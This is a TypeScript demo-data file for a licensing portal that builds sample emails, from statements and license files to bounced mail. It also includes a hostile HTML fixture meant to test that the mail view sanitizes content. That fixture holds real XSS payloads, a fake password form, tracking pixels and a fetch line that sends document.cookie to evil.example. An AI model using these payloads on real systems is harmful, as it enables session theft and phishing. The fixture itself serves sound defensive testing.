import type { Random } from '#server/demo/random.ts'
import { action, facts, frameMail, type MailContent, paragraph } from '#server/modules/messages/mail-frame.ts'

export type DemoEmail = {
  readonly subject: string
  readonly to: readonly string[]
  readonly cc?: readonly string[]
  readonly html: string
  readonly text: string
  readonly trouble?: string
  readonly attachment?: { readonly name: string; readonly mediaType: string; readonly content: string }
}
export type Recipient = { readonly customerNumber: string; readonly name: string; readonly mailDomain: string }

const SENDER = {
  origin: 'https://portal.vendor.example',
  brand: { name: 'Licensing Portal', logoUrl: '', color: '#3451b2' },
}
const ADMINISTRATOR_OF: Record<string, string> = {
  '100001': 'ada.admin',
  '100002': 'ada.admin',
  '100003': 'petra.principal',
  '100004': 'ella.export',
  '100006': 'sol.single',
  '100007': 'nina.nimbus',
  '100008': 'hal.heritage',
}
const framed = (content: MailContent) => frameMail(content, SENDER)
const addressOf = ({ customerNumber, mailDomain }: Recipient) => `${ADMINISTRATOR_OF[customerNumber]}@${mailDomain}`

/** A red square of 16 × 16. */
const PICTURE =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAIAAACQkWg2AAAAFklEQVR42mO4o6ZGEmIY1TCqYfhqAAATqigQ9kvG0QAAAABJRU5ErkJggg=='

/** One of each kind that the screens must be able to show; the first is the newest. */
export function showcaseEmails(account: Recipient): DemoEmail[] {
  const to = [addressOf(account)]
  return [
    {
      subject: 'Your license file, with a picture',
      to,
      cc: [`license.support@${account.mailDomain}`],
      html: `<h1 style="font-family:Georgia,serif;color:#1d4ed8">License file</h1>
<p>Dear colleague,</p><p>the <b>license file</b> of host <code>aero-lic-01</code> is attached.</p>
<table border="1" cellpadding="6" style="border-collapse:collapse"><tr><th>Host</th><th>Seats</th></tr><tr><td>aero-lic-01</td><td align="right">25</td></tr></table>
<p><img src="${PICTURE}" alt="A red square" width="64" height="64"> A picture that the mail carries itself.</p>`,
      text: 'Dear colleague,\n\nthe license file of host aero-lic-01 is attached.\n',
      attachment: {
        name: `license_${account.customerNumber}_00163e5a7b01.lic`,
        mediaType: 'text/plain',
        content: 'SERVER aero-lic-01 00163e5a7b01 1055\nVENDOR ansyslmd\n',
      },
    },
    { subject: 'A mail that means no good <script>alert(1)</script>', to, html: HOSTILE_BODY, text: 'You have won' },
    {
      subject: 'Plain text only: Ångström & “Größe”, naïve café',
      to,
      html: '',
      text: 'Dear colleague,\n\nthis mail has no HTML: <b>this is not bold</b>.\n\n  Indented & kept.\n',
    },
    {
      subject: 'Statement that could not be delivered',
      to: [`former.colleague@${account.mailDomain}`, ...to],
      ...framed({ title: 'Elastic statement', blocks: [paragraph('Your statement of last month.')] }),
      trouble: `550 5.1.1 former.colleague@${account.mailDomain}: no such mailbox`,
    },
  ]
}

/** What an account receives over the years. */
export function ordinaryEmail(account: Recipient, random: Random): DemoEmail {
  const to = [addressOf(account)]
  const accountFact = ['Account', `${account.customerNumber} (${account.name})`] as const
  const open = action('Open the portal', `${SENDER.origin}/home?customer=${account.customerNumber}`)
  const kind = random.weighted([
    ['week', 5],
    ['month', 2],
    ['license', 4],
    ['access', 1],
    ['expiring', 2],
  ] as const)
  switch (kind) {
    case 'week':
    case 'month': {
      const used = (random.integer(100, 250_000) / 100).toFixed(2)
      const title = kind === 'week' ? 'Weekly elastic statement' : 'Monthly elastic statement'
      return {
        subject: `${title}: ${used} AEU used`,
        to,
        ...framed({ title, blocks: [facts(accountFact, ['Used', `${used} AEU`]), open] }),
      }
    }
    case 'license': {
      const host = `lic-${random.integer(1, 40).toString().padStart(2, '0')}`
      const title = `License file of host ${host}`
      const name = `license_${account.customerNumber}_${random.hex(12)}.lic`
      return {
        subject: title,
        to,
        cc: [`license.support@${account.mailDomain}`],
        ...framed({ title, blocks: [paragraph('The license file is attached.'), facts(accountFact, ['Host', host])] }),
        attachment: { name, mediaType: 'text/plain', content: `SERVER ${host} ${random.hex(12)} 1055\n` },
      }
    }
    case 'access': {
      const title = `You have access to ${account.name}`
      return {
        subject: `${SENDER.brand.name}: ${title}`,
        to: [`new.colleague${random.integer(1, 99)}@${account.mailDomain}`],
        ...framed({ title, blocks: [facts(accountFact, ['Role', 'Licensing Portal Viewer']), open] }),
      }
    }
    case 'expiring': {
      const days = random.pick([30, 14, 7, 1])
      const title = `Entitlements end in ${days} ${days === 1 ? 'day' : 'days'}`
      return { subject: title, to, ...framed({ title, blocks: [facts(accountFact), open] }) }
    }
  }
}

/** What a hostile sender tries. Shown in the history it must neither run nor load anything, only leave its plain text. */
export const HOSTILE_BODY = `<!doctype html>
<html>
<head>
<title>hostile title</title>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url("https://evil.example/import.css"); body { background: url("https://evil.example/bg.png") }</style>
<script src="https://evil.example/head.js"></script>
</head>
<body onload="document.title = 'run by onload'" background="https://evil.example/body.png">
<h1 onclick="alert('click')">You have won</h1>
<p style="color:#b91c1c;background-image:url(https://evil.example/css.png)">Red text stays red.</p>
<p style="position:fixed;top:0;left:0;width:100%;height:100%">An overlay becomes a paragraph.</p>
<script>document.body.dataset.run = 'script'; fetch('https://evil.example/steal?c=' + document.cookie)</script>
<img src="x" onerror="document.body.dataset.run = 'onerror'">
<img src="https://evil.example/pixel.gif" alt="tracking pixel">
<img src="//evil.example/relative.gif" alt="">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" alt="">
<svg onload="document.body.dataset.run = 'svg'"><script>document.body.dataset.run = 'svg script'</script><a xlink:href="javascript:alert(1)"><text>svg text</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></table></mtext></math>
<iframe src="https://evil.example/frame" srcdoc="<script>parent.document.body.dataset.run = 'frame'</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<video src="https://evil.example/video.mp4" autoplay></video><audio src="https://evil.example/audio.mp3" autoplay></audio>
<form action="https://evil.example/form" method="post"><label>Password <input name="password" type="password"></label><button>Sign in</button></form>
<a href="javascript:alert('link')">A link that would run</a>
<a href="data:text/html,<script>alert(1)</script>">A link to a page of its own</a>
<a href="https://evil.example/phish" target="_top">A link out of the frame</a>
<template><script>alert('template')</script></template>
<noscript><p title="</noscript><img src=x onerror=alert('mutation')>"></noscript>
<p>The end of the mail.</p>
</body>
</html>
`
